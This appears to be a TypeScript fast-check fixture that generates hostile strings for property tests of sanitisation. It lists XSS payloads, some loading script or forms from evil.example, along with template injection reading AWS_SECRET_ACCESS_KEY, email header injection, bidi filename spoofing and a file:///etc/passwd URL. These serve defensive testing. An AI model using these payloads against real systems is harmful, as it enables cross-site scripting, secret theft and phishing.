/**
 * Arbitrary hostile text for the property suites: any Unicode, control, bidi and zero-width
 * characters, markup and URL schemes, template syntax, header injection and very long words,
 * mixed the way an attacker (or a broken scanner) would.
 */
import fc from 'fast-check';

/** The fixed seed of every property in test/security: failures replay exactly (`seed` + `path` in the report). */
export const SEED = 20_240_502;

/** Pieces an attacker chooses from. */
export const INJECTIONS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{display:none}</style>',
  '</td></tr></table><form action=https://evil.example><input name=p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  ' onmouseover="alert(1)" ',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'https://docs.aws.amazon.com@evil.example/',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{t.brand}}}',
  '{{#each this}}{{this}}{{/each}}',
  '{{> partial}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the attack
  '${process.env.AWS_SECRET_ACCESS_KEY}',
  '<%= 7*7 %>',
  '\r\nBcc: victim@example.com',
  '\nSubject: forged',
  '\u202egnp.exe',
  '\u2066\u2067\u2068\u2069',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u0000\u0007\u001b[31m\u007f\u0085',
  '\u2028\u2029',
  'A'.repeat(500),
  'https://example.com/'.padEnd(300, 'x'),
  '&amp;&lt;&gt;&quot;',
  '"\'`<>&',
] as const;

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom('<', '>', '"', "'", '&', '{', '}', '$', '\r', '\n', ' ', '\u202e', 'a') }) },
);

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/**
 * A hostile string: up to six pieces glued together. Well-formed UTF-16: a lone surrogate (which
 * JSON can carry as `"\ud800"`) is its own known failure, tested by example in `lone-surrogate.test.ts`.
 */
export const hostile: fc.Arbitrary<string> = fc
  .array(piece, { maxLength: 6 })
  .map((parts) => parts.join('').replace(LONE_SURROGATE, '\uFFFD'));

/** Hostile text that still reads as a value: never blank after trimming. */
export const hostileNonEmpty: fc.Arbitrary<string> = hostile.map((text) => `x${text}`);

/** Hostile text that might be a link: a URL with a hostile scheme, userinfo, quotes or spaces, or anything. */
export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/relative',
    'https://docs.aws.amazon.com@evil.example/',
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onmouseover='alert(1)",
    'https://evil.example/ onmouseover=alert(1)',
    'https://evil.example/\u202e',
    'http://[::1',
  ),
  fc.webUrl().map((url) => `${url}"><script>alert(1)</script>`),
  fc.webUrl(),
  hostile,
);
